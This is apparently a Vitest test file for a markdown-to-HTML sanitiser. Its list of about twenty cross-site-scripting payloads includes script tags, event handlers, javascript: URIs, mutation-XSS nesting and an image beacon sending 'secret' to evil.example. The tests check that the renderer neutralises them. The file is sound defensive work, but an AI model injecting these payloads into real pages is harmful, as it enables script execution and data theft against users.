// @vitest-environment jsdom
import { expect, test } from "vitest";

import { blocksOf, htmlOf } from "./markdown_html";

const kAttacks = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt&colon;alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:x)",
  "![x](javascript:alert(1))",
  "![x](https://evil.example/?q=secret)",
  '[x](https://a.example "\\" onmouseover=alert(1) ")',
  "<iframe src='https://evil.example'></iframe>",
  "<style>* { display: none }</style>",
  "<form action=https://evil.example><input name=a></form>",
  "<a href='https://a.example' style='position:fixed;inset:0' id=app>x</a>",
  "`<b onclick=alert(1)>`",
  "| <img src=x onerror=alert(1)> |\n|---|\n| <script>1</script> |",
  "<!--><img src=x onerror=alert(1)>-->",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "- <details open ontoggle=alert(1)>",
  "a <b\nonmouseover=alert(1)>b</b>",
];

test.each(kAttacks)("%s does nothing", (attack) => {
  const box = document.createElement("div");
  box.innerHTML = htmlOf(attack);
  for (const element of box.querySelectorAll("*")) {
    expect(["SCRIPT", "IMG", "SVG", "IFRAME", "STYLE", "FORM", "INPUT", "MATH", "DETAILS", "OBJECT", "LINK", "BASE"]).not.toContain(element.tagName.toUpperCase());
    for (const { name, value } of element.attributes) {
      expect(["href", "title", "start", "align", "class", "target", "rel"]).toContain(name);
      if (name === "href") expect(value).toMatch(/^(https?|mailto):/);
    }
  }
});

test("what looks like HTML is shown as text", () => {
  const box = document.createElement("div");
  box.innerHTML = htmlOf("a <script>alert(1)</script> <b>c</b>");
  expect(box.textContent!.trim()).toBe("a <script>alert(1)</script> <b>c</b>");
});

test("markdown is markdown", () => {
  expect(htmlOf("**a** and `b`")).toContain("<strong>a</strong> and <code>b</code>");
  expect(htmlOf("| a |\n|---|\n| 1 |")).toContain("<td>1</td>");
  expect(htmlOf("[x](https://a.example)")).toContain('rel="noopener noreferrer nofollow"');
});

test("code is a block of its own, complete or not", () => {
  const [text, code] = blocksOf("Look:\n\n```python\nprint(1)");
  expect(text.kind).toBe("html");
  expect(code).toMatchObject({ kind: "code", language: "python", code: "print(1)" });
});

test("a growing text changes only its last block", () => {
  const whole = "One.\n\n- a\n- b\n\nTwo.";
  const before = blocksOf(whole.slice(0, -2)).map((b) => b.raw);
  const after = blocksOf(whole).map((b) => b.raw);
  expect(after.slice(0, -1)).toEqual(before.slice(0, -1));
});
